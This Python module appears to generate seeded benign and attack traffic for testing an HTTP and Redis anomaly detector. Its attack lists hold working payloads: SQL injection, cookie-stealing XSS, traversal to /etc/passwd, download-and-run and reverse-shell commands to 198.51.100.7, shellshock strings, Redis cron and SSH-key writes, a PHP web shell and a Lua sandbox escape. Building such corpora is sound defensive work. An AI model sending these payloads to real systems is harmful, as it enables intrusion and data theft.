"""Seeded benign and attack traffic for evaluating the anomaly detector.

Benign HTTP: varied GET/POST/HEAD requests of a made-up shop, blog and JSON API, with
real browser User-Agent strings (sqlmap's ``user-agents.txt`` when installed), cookies,
bearer tokens, referers, percent-encoded search terms and form/JSON bodies.

Attacks come from real tools' data where this machine has it: sqlmap's
``data/xml/payloads/*.xml`` test payloads and extraction vectors, wrapped in sqlmap's own
``boundaries.xml`` prefixes/suffixes and URL-encoded the way sqlmap does; plus classic
XSS, path traversal, command injection, shellshock and overflow strings.  When sqlmap is
missing, a small built-in list of sqlmap-style payloads stands in (and says so).

Redis: benign RESP and inline commands of a cache/queue/session workload, and the
attacks seen against exposed Redis (CONFIG SET dir/dbfilename to write cron jobs or SSH
keys, SLAVEOF rogue servers, MODULE LOAD, the CVE-2022-0543 Lua escape, cross-protocol
HTTP).
"""
from __future__ import annotations

import json
import random
import re
import string
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import quote, quote_plus

SQLMAP_DIR = Path("/usr/share/sqlmap/data")

_FALLBACK_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.163 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "curl/7.88.1",
    "python-requests/2.31.0",
]

WORDS = (
    "red blue green shoes shirt dress laptop phone cable charger garden chair table lamp "
    "coffee tea mug book novel guide travel winter summer sale new best cheap kids women "
    "men sport running hiking camera lens bag wallet watch ring gift card home kitchen "
    "knife pan pot oven recipe pasta salad vegan cake bread cookie review news python "
    "linux server cloud backup release notes privacy terms contact about help faq"
).split()
UTF8_WORDS = ["café", "crème brûlée", "naïve", "Zürich", "straße", "日本", "ñandú", "smörgås"]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9",
         "es-ES,es;q=0.9,en;q=0.6", "ja,en-US;q=0.9", "nl-NL,nl;q=0.9,en-US;q=0.8,en;q=0.7"]
ACCEPTS = ["text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
           "*/*", "application/json, text/plain, */*", "image/avif,image/webp,image/apng,*/*;q=0.8",
           "text/css,*/*;q=0.1", "application/json"]


def user_agents() -> list[str]:
    path = SQLMAP_DIR / "txt" / "user-agents.txt"
    if path.is_file():
        lines = path.read_text(encoding="utf-8", errors="replace").splitlines()
        uas = [x.strip() for x in lines if x.strip() and not x.startswith("#")]
        if len(uas) > 100:
            return uas
    return list(_FALLBACK_UAS)


def _token(rng: random.Random, n: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def _hex(rng: random.Random, n: int) -> str:
    return _token(rng, n, "0123456789abcdef")


def _words(rng: random.Random, lo: int, hi: int) -> list[str]:
    return [rng.choice(WORDS) for _ in range(rng.randint(lo, hi))]


def _search_term(rng: random.Random) -> str:
    words = _words(rng, 1, 4)
    if rng.random() < 0.15:
        words.append(rng.choice(UTF8_WORDS))
    return " ".join(words)


def _query(rng: random.Random) -> dict[str, str]:
    kind = rng.randrange(6)
    if kind == 0:
        return {"q": _search_term(rng), "page": str(rng.randint(1, 20))}
    if kind == 1:
        return {"id": str(rng.randint(1, 99999))}
    if kind == 2:
        return {"category": rng.choice(WORDS), "sort": rng.choice(["price", "-price", "newest", "rating"]),
                "limit": str(rng.choice([10, 20, 50]))}
    if kind == 3:
        return {"utm_source": rng.choice(["newsletter", "google", "twitter"]),
                "utm_medium": rng.choice(["email", "cpc", "social"]), "utm_campaign": "-".join(_words(rng, 1, 3))}
    if kind == 4:
        return {"from": f"2024-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
                "to": f"2024-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}", "tz": "Europe/Berlin"}
    return {"email": f"{_token(rng, 6, string.ascii_lowercase)}@example.{rng.choice(['com', 'org'])}",
            "ref": _hex(rng, 8)}


def encode_query(params: dict[str, str], rng: random.Random) -> str:
    plus = rng.random() < 0.5
    enc = quote_plus if plus else (lambda v: quote(v, safe=""))
    return "&".join(f"{k}={enc(v)}" for k, v in params.items())


def _path(rng: random.Random) -> str:
    kind = rng.randrange(9)
    slug = "-".join(_words(rng, 2, 6))
    if kind == 0:
        return rng.choice(["/", "/index.html", "/about", "/contact", "/faq", "/cart", "/login", "/favicon.ico"])
    if kind == 1:
        return f"/products/{rng.randint(1, 99999)}/{slug}"
    if kind == 2:
        return f"/blog/{rng.randint(2015, 2024)}/{rng.randint(1, 12):02d}/{slug}"
    if kind == 3:
        ext = rng.choice(["js", "css", "woff2", "png", "svg", "webp"])
        return f"/static/{rng.choice(['js', 'css', 'img', 'fonts'])}/{rng.choice(WORDS)}.{_hex(rng, 8)}.{ext}"
    if kind == 4:
        return f"/api/v1/{rng.choice(['users', 'orders', 'items', 'carts'])}/{rng.randint(1, 10**6)}"
    if kind == 5:
        return f"/api/v2/{rng.choice(['search', 'recommendations', 'stock'])}"
    if kind == 6:
        return f"/images/{rng.choice(WORDS)}/{rng.randint(100, 2000)}x{rng.randint(100, 2000)}/{_hex(rng, 12)}.jpg"
    if kind == 7:
        return "/search"
    return f"/account/{rng.choice(['orders', 'settings', 'wishlist', 'addresses'])}"


def _cookie(rng: random.Random) -> str:
    parts = [f"sessionid={_token(rng, 32)}"]
    if rng.random() < 0.6:
        parts.append(f"_ga=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(1600000000, 1700000000)}")
    if rng.random() < 0.4:
        parts.append(f"csrftoken={_token(rng, 64)}")
    if rng.random() < 0.3:
        parts.append(f"lang={rng.choice(['en', 'de', 'fr'])}; theme={rng.choice(['dark', 'light'])}")
    return "; ".join(parts)


def _jwt(rng: random.Random) -> str:
    b64 = string.ascii_letters + string.digits + "-_"
    return f"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{_token(rng, rng.randint(60, 120), b64)}.{_token(rng, 43, b64)}"


def _headers(rng: random.Random, uas: list[str], host: str) -> list[str]:
    hs = [f"Host: {host}", f"User-Agent: {rng.choice(uas)}", f"Accept: {rng.choice(ACCEPTS)}"]
    if rng.random() < 0.8:
        hs.append(f"Accept-Language: {rng.choice(LANGS)}")
    if rng.random() < 0.8:
        hs.append(f"Accept-Encoding: {rng.choice(['gzip, deflate, br', 'gzip, deflate', 'gzip'])}")
    if rng.random() < 0.5:
        hs.append(f"Referer: https://{host}{_path(rng)}")
    if rng.random() < 0.5:
        hs.append(f"Cookie: {_cookie(rng)}")
    if rng.random() < 0.15:
        hs.append(f"Authorization: Bearer {_jwt(rng)}")
    if rng.random() < 0.2:
        hs.append(f'If-None-Match: W/"{_hex(rng, 16)}"')
    if rng.random() < 0.2:
        hs.append(rng.choice(["Cache-Control: no-cache", "Cache-Control: max-age=0", "DNT: 1",
                              "Upgrade-Insecure-Requests: 1", "X-Requested-With: XMLHttpRequest"]))
    hs.append(f"Connection: {rng.choice(['keep-alive', 'close'])}")
    rng.shuffle(hs[3:])
    return hs


def _body(rng: random.Random) -> tuple[str, str]:
    kind = rng.randrange(3)
    if kind == 0:
        form = {"username": _token(rng, 8, string.ascii_lowercase), "password": _token(rng, 12),
                "remember": rng.choice(["on", "off"])}
        return "application/x-www-form-urlencoded", encode_query(form, rng)
    if kind == 1:
        data = {"items": [{"sku": _hex(rng, 6), "qty": rng.randint(1, 5)} for _ in range(rng.randint(1, 4))],
                "coupon": rng.choice([None, _token(rng, 8).upper()]), "note": _search_term(rng)}
        return "application/json", json.dumps(data, ensure_ascii=rng.random() < 0.5)
    form = {"name": " ".join(_words(rng, 1, 2)).title(), "email": f"{_token(rng, 7).lower()}@example.net",
            "message": _search_term(rng) + ". " + _search_term(rng) + "!"}
    return "application/x-www-form-urlencoded", encode_query(form, rng)


def http_request(rng: random.Random, uas: list[str], params: dict[str, str] | None = None,
                 body: tuple[str, str] | None = None, extra_header: str | None = None,
                 encoding: str = "utf-8") -> bytes:
    """One benign-looking request; ``params``/``body``/``extra_header`` let attacks ride on it.

    ``params={"": "a=1&b=2"}`` passes an already-encoded query string.
    """
    host = rng.choice(["shop.example.com", "www.example.com", "api.example.com", "10.0.0.5:8080"])
    method = "POST" if body is not None else rng.choices(["GET", "POST", "HEAD"], [78, 18, 4])[0]
    path = _path(rng)
    if params is None and method != "POST" and rng.random() < 0.55:
        params = _query(rng)
    target = path
    if params:
        target += "?" + (params[""] if "" in params else encode_query(params, rng))
    hs = _headers(rng, uas, host)
    if extra_header:
        hs.insert(rng.randint(1, len(hs)), extra_header)
    text = ""
    if method == "POST":
        ctype, text = body if body is not None else _body(rng)
        hs += [f"Content-Type: {ctype}", f"Content-Length: {len(text.encode(encoding))}"]
    return (f"{method} {target} HTTP/1.1\r\n" + "\r\n".join(hs) + "\r\n\r\n" + text).encode(encoding)


def benign_http(n: int, seed: int) -> list[bytes]:
    rng = random.Random(seed)
    uas = user_agents()
    return [http_request(rng, uas) for _ in range(n)]


# ----------------------------------------------------------------- attacks: sqlmap data

_SQLMAP_FALLBACK = [
    "AND [RANDNUM]=[RANDNUM]", "OR NOT [RANDNUM]=[RANDNUM]",
    "AND (SELECT [RANDNUM] FROM (SELECT(SLEEP([SLEEPTIME])))[RANDSTR])",
    "AND EXTRACTVALUE([RANDNUM],CONCAT(0x5c,0x[DELIMITER_START],(SELECT (ELT([RANDNUM]=[RANDNUM],1))),0x[DELIMITER_STOP]))",
    "UNION ALL SELECT NULL,NULL,CONCAT(0x[DELIMITER_START],0x[RANDSTR],0x[DELIMITER_STOP])-- -",
    ";SELECT PG_SLEEP([SLEEPTIME])--", "AND [RANDNUM]=(SELECT [RANDNUM] FROM PG_SLEEP([SLEEPTIME]))",
    "WAITFOR DELAY '0:0:[SLEEPTIME]'",
]
_INFERENCE = [
    "ORD(MID((SELECT IFNULL(CAST(COUNT(*) AS NCHAR),0x20) FROM information_schema.tables),1,1))>51",
    "ASCII(SUBSTRING((SELECT COALESCE(CAST(current_user AS VARCHAR(10000))::text,(CHR(32)))),1,1))>64",
    "UNICODE(SUBSTRING((SELECT ISNULL(CAST(@@VERSION AS NVARCHAR(4000)),CHAR(32))),2,1))>96",
]


def _sqlmap_templates() -> tuple[list[str], list[tuple[str, str]], str]:
    """(payload templates, (prefix, suffix) boundaries, source name)."""
    pdir = SQLMAP_DIR / "xml" / "payloads"
    files = sorted(pdir.glob("*.xml")) if pdir.is_dir() else []
    if not files:
        return list(_SQLMAP_FALLBACK), [("", ""), ("'", " AND 'a'='a"), (")", "-- -")], "built-in"
    payloads: list[str] = []
    for f in files:
        root = ET.parse(f).getroot()
        for test in root.iter("test"):
            for tag in ("request/payload", "vector"):
                node = test.find(tag)
                if node is not None and node.text and node.text.strip():
                    payloads.append(node.text.strip())
    bounds: list[tuple[str, str]] = []
    broot = ET.parse(SQLMAP_DIR / "xml" / "boundaries.xml").getroot()
    for b in broot.iter("boundary"):
        bounds.append(((b.findtext("prefix") or ""), (b.findtext("suffix") or "")))
    return payloads, bounds, f"sqlmap ({len(files)} payload files)"


def _fill(template: str, rng: random.Random, orig: str) -> str:
    def rnum(_: re.Match[str]) -> str:
        return str(rng.randint(1000, 9999))

    def rstr(_: re.Match[str]) -> str:
        return _token(rng, 4, string.ascii_letters)

    ncols = rng.randint(1, 8)
    cols = ["NULL"] * ncols
    cols[rng.randrange(ncols)] = "CONCAT(0x71786b7671,0x" + _hex(rng, 20) + ",0x716a787a71)"
    subs = {
        "[INFERENCE]": rng.choice(_INFERENCE), "[SLEEPTIME]": str(rng.choice([5, 5, 10])),
        "[DELIMITER_START]": "qxkvq", "[DELIMITER_STOP]": "qjxzq", "[ORIGVALUE]": orig,
        "[ORIGINAL]": orig, "[QUERY]": "SELECT banner FROM v$version WHERE ROWNUM=1",
        "[UNION]": "UNION ALL SELECT " + ",".join(cols), "[CHAR]": "NULL",
        "[GENERIC_SQL_COMMENT]": "-- " + _token(rng, 4, string.ascii_letters),
        "[DELAYED]": "SLEEP(5)", "[COLSTART]": "1", "[COLSTOP]": "10",
        "[SPACE_REPLACE]": " ", "[DOLLAR_REPLACE]": "$", "[AT_REPLACE]": "@", "[HASH_REPLACE]": "#",
    }
    out = re.sub(r"\[RANDNUM\d?\]", rnum, template)
    out = re.sub(r"\[RANDSTR\d?\]", rstr, out)
    for key, val in subs.items():
        out = out.replace(key, val)
    return out


def sqlmap_payloads(rng: random.Random) -> tuple[list[str], str]:
    """Filled sqlmap injections (prefix + payload + suffix), raw (not yet URL-encoded)."""
    templates, bounds, source = _sqlmap_templates()
    out = []
    for t in templates:
        prefix, suffix = rng.choice(bounds)
        orig = str(rng.randint(1, 500))
        # sqlmap's agent: original value + boundary prefix + " " + payload + boundary suffix
        out.append(orig + _fill(f"{prefix} {t}{suffix}", rng, orig))
    return out, source


def sqlmap_urlencode(value: str) -> str:
    # sqlmap's lib/core/common.py urlencode(): quote() with safe="%&=-_"
    return quote(value, safe="%&=-_")


CLASSIC_WEB = {
    "xss": [
        "<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>", "'\"><svg/onload=alert(/XSS/)>", "javascript:alert(String.fromCharCode(88,83,83))",
        "<body onload=alert('XSS')>", "<iframe src=\"javascript:alert(1)\"></iframe>",
        "\"><img src=\"http://evil.example/x.php?c='+document.cookie+'\">", "<ScRiPt>prompt(1)</sCrIpT>",
        "%3Cscript%3Ealert%281%29%3C%2Fscript%3E", "<details open ontoggle=alert(1)>",
    ],
    "traversal": [
        "../../../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", "..\\..\\..\\..\\windows\\win.ini",
        "/etc/passwd%00.jpg", "..%252f..%252f..%252fetc%252fpasswd", "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
    ],
    "cmd": [
        ";cat /etc/passwd", "| id", "$(id)", "`uname -a`", "; wget http://198.51.100.7/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
        "& ping -c 10 127.0.0.1 &", "|| curl http://198.51.100.7/`whoami`", ";nc -e /bin/sh 198.51.100.7 4444",
    ],
}
SHELLSHOCK = [
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; echo; /usr/bin/id",
    "() { ignored; }; /bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "() { :; }; wget -qO- http://198.51.100.7/bot.pl | perl",
]
SHELLSHOCK_HEADERS = ["User-Agent", "Referer", "Cookie", "X-Forwarded-For"]


def _overflow(rng: random.Random) -> str:
    pad = rng.choice(["A", "B", "%41", "\x90"]) * rng.randint(1500, 6000)
    shell = "".join(chr(rng.randrange(1, 256)) for _ in range(rng.randint(40, 120)))
    return pad + shell


def attack_http(seed: int) -> tuple[dict[str, list[bytes]], str]:
    """Attack requests by family, and the name of the sqlmap payload source."""
    rng = random.Random(seed)
    uas = user_agents()
    out: dict[str, list[bytes]] = {"sqlmap": [], "xss": [], "traversal": [], "cmd": [],
                                   "shellshock": [], "overflow": []}
    sqli, source = sqlmap_payloads(rng)
    for inj in sqli:
        out["sqlmap"].append(_carry(rng, uas, sqlmap_urlencode(inj)))
    for family, strings in CLASSIC_WEB.items():
        for s in strings:
            for encoded in (False, True):
                value = quote(s, safe="") if encoded else s.replace(" ", "%20")
                out[family].append(_carry(rng, uas, value))
    for s in SHELLSHOCK:
        for h in SHELLSHOCK_HEADERS:
            out["shellshock"].append(http_request(rng, uas, extra_header=f"{h}: {s}"))
    for _ in range(12):
        out["overflow"].append(_carry(rng, uas, _overflow(rng)))
    return out, source


def _carry(rng: random.Random, uas: list[str], value: str) -> bytes:
    """Put an already-encoded attack value into a query parameter or a form body."""
    params = _query(rng)
    key = rng.choice(list(params))
    pre = encode_query({k: v for k, v in params.items() if k != key}, rng)
    query = (pre + "&" if pre else "") + f"{key}={value}"
    if rng.random() < 0.75:
        return http_request(rng, uas, params={"": query})
    return http_request(rng, uas, body=("application/x-www-form-urlencoded", query))


def oversized_http(seed: int) -> list[bytes]:
    """Requests of normal-looking material, far longer than normal: header stuffing,
    parameter floods, giant cookies (the overflow/DoS shape, not its bytes)."""
    rng = random.Random(seed)
    uas = user_agents()
    out = []
    for _ in range(8):
        out.append(http_request(rng, uas, extra_header="Cookie: session=" + _token(rng, rng.randint(8000, 40000))))
        out.append(http_request(rng, uas, extra_header="\r\n".join([f"Accept-Language: {rng.choice(LANGS)}"] * rng.randint(200, 900))))
        flood = "&".join(f"id={rng.randint(1, 999)}" for _ in range(rng.randint(1000, 5000)))
        out.append(http_request(rng, uas, params={"": flood}))
    return out


def binary_http(seed: int) -> list[bytes]:
    """Binary junk where text is expected: raw bytes in a body or a header."""
    rng = random.Random(seed)
    uas = user_agents()
    out = []
    for _ in range(12):
        body = bytes(rng.randrange(256) for _ in range(rng.randint(200, 2000))).decode("latin-1")
        out.append(http_request(rng, uas, body=("application/octet-stream", body), encoding="latin-1"))
        junk = bytes(rng.randint(0x80, 0xFF) for _ in range(rng.randint(50, 300))).decode("latin-1")
        out.append(http_request(rng, uas, params={}, extra_header="X-Data: " + junk, encoding="latin-1"))
    return out


# --------------------------------------------------------------------------- redis

def resp(*args: str | bytes) -> bytes:
    parts = [b"*%d\r\n" % len(args)]
    for a in args:
        b = a.encode() if isinstance(a, str) else a
        parts.append(b"$%d\r\n%s\r\n" % (len(b), b))
    return b"".join(parts)


def inline(*args: str) -> bytes:
    return " ".join(f'"{a}"' if (" " in a or not a) else a for a in args).encode() + b"\r\n"


def _redis_benign_cmd(rng: random.Random) -> list[str]:
    uid = str(rng.randint(1, 10**6))
    key = rng.choice([f"user:{uid}", f"session:{_hex(rng, 32)}", f"cache:page:/products/{uid}",
                      f"rate:{rng.randint(1, 255)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
                      f"cart:{uid}", f"lock:job:{_hex(rng, 8)}"])
    kind = rng.randrange(12)
    if kind == 0:
        return ["GET", key]
    if kind == 1:
        return ["SET", key, json.dumps({"id": int(uid), "name": rng.choice(WORDS), "ts": rng.randint(1_600_000_000, 1_700_000_000)}),
                "EX", str(rng.choice([60, 300, 3600]))]
    if kind == 2:
        return ["HGETALL", key]
    if kind == 3:
        return ["HSET", key, rng.choice(["name", "email", "last_login", "visits"]), rng.choice(WORDS)]
    if kind == 4:
        return ["INCR", key]
    if kind == 5:
        return ["EXPIRE", key, str(rng.randint(10, 86400))]
    if kind == 6:
        return ["LPUSH", "queue:jobs", json.dumps({"job": rng.choice(["email", "resize", "report"]), "arg": uid})]
    if kind == 7:
        return ["BRPOP", "queue:jobs", str(rng.choice([0, 5, 30]))]
    if kind == 8:
        return ["ZADD", "leaderboard", str(rng.randint(0, 10**5)), f"player{uid}"]
    if kind == 9:
        return ["MGET"] + [f"user:{rng.randint(1, 10**6)}" for _ in range(rng.randint(2, 6))]
    if kind == 10:
        return ["DEL", key]
    return [rng.choice(["PING", "DBSIZE", "TTL " + key, "EXISTS " + key])]


def benign_redis(n: int, seed: int) -> list[bytes]:
    rng = random.Random(seed)
    out = []
    for _ in range(n):
        args = _redis_benign_cmd(rng)
        if len(args) == 1:
            args = args[0].split(" ")
        out.append(resp(*args) if rng.random() < 0.7 else inline(*args))
    return out


_CRON = "\n\n*/1 * * * * /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'\n\n"
_SSHKEY = "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7" + "x" * 40 + " root@kali\n\n"
_LUA = ('local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); '
        'local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res')


def attack_redis() -> dict[str, list[bytes]]:
    """Attacks seen against exposed Redis, by family, each as RESP and as an inline command."""
    families: dict[str, list[list[str]]] = {
        "write-file": [
            ["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"], ["CONFIG", "SET", "dbfilename", "root"],
            ["SET", "x", _CRON], ["SET", "crackit", _SSHKEY], ["CONFIG", "SET", "dir", "/root/.ssh"],
            ["CONFIG", "SET", "dbfilename", "authorized_keys"], ["CONFIG", "SET", "dir", "/var/www/html"],
            ["SET", "shell", "<?php system($_GET['cmd']); ?>"], ["CONFIG", "SET", "dbfilename", "shell.php"],
        ],
        "rogue-server": [["SLAVEOF", "198.51.100.7", "21000"], ["REPLICAOF", "198.51.100.7", "6379"],
                         ["MODULE", "LOAD", "/tmp/exp.so"], ["system.exec", "cat /etc/passwd"]],
        "lua": [["EVAL", _LUA, "0"], ["EVAL", "dofile('/etc/passwd')", "0"]],
        "recon": [["CONFIG", "GET", "*"], ["CONFIG", "SET", "protected-mode", "no"], ["FLUSHALL"], ["SAVE"],
                  ["INFO", "server"], ["CLIENT", "LIST"], ["KEYS", "*"], ["AUTH", "' OR 1=1 --"]],
        "binary": [["SET", "x", "\x90" * 64 + "\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e"
                    "\x89\xe3\x50\x53\x89\xe1\xb0\x0b\xcd\x80"]],
    }
    out = {name: [enc(*c) for c in cmds for enc in (resp, inline)]
           for name, cmds in families.items()}
    out["cross-protocol"] = [
        b"POST / HTTP/1.1\r\nHost: 127.0.0.1:6379\r\nContent-Type: text/plain\r\n\r\n" + resp("SLAVEOF", "198.51.100.7", "21000"),
        b"GET /?cmd=config%20set%20dir%20/tmp HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\n",
    ]
    return out
